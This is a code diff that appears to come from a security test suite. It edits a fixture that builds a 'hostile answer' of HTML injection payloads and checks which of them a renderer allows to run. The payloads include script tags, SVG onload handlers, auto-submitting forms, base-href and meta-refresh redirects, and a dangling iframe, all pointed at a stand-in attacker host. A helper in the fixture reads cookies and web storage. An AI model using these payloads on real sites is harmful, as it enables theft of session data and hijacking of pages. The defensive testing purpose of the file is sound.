@@ -39,7 +39,6 @@ function silently(name, act) { attempt(name, function (refused) { act(); refused
 function all(frames) { return Array.from({ length: frames.length }, function (_, at) { return frames[at]; }); }
 
 function startAd() {
-  new Image().src = '${attacker}/alive';
   attempt('localStorage', function () { return JSON.stringify(localStorage); });
   attempt('sessionStorage', function () { return JSON.stringify(sessionStorage); });
   attempt('cookie', function () { return document.cookie; });
@@ -151,11 +150,11 @@ function parentOrigin() { return location.ancestorOrigins[0]; }
 </script>`;
 
 /**
- * Returns an answer with attacks as markup, because only templates decide which scripts run. Each attack that runs sends its
- * name to the attacker.
+ * Returns an answer with attacks as markup, because only templates decide which scripts run. Each attack that runs posts its name
+ * to the top page.
  */
 export const hostileAnswer = (attacker: string) => {
-  const run = (name: string) => `new Image().src='${attacker}/ran?${name}'`;
+  const run = (name: string) => `top.postMessage('ran ${name}','*')`;
   return [
     '<h1>Hostile answer</h1>',
     `<script>${run('script')}</script>`,
@@ -171,9 +170,11 @@ export const hostileAnswer = (attacker: string) => {
     `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run('embed').replaceAll("'", '"')}'/>">`,
     `<form id="f" method="post" action="${attacker}/form"></form><script>document.getElementById('f').submit()</script>`,
     `<base href="${attacker}/"><img src="/content/based.png">`,
-    `<link rel="modulepreload" href="${attacker}/module.js"><script src="${attacker}/ran?src"></script>`,
+    `<link rel="modulepreload" href="${attacker}/module.js"><script src="${attacker}/script"></script>`,
     `{{ 'liquid' | append: '-ran' }}`,
     `</main><script>${run('breakout')}</script>`,
-    `<img src="${attacker}/alive">`,
+    `<img src="${attacker}/picture">`,
+    `<meta http-equiv="refresh" content="0;url=${attacker}/refresh">`,
+    `<iframe src='${attacker}/frame' name='`,
   ].join('\n');
 };
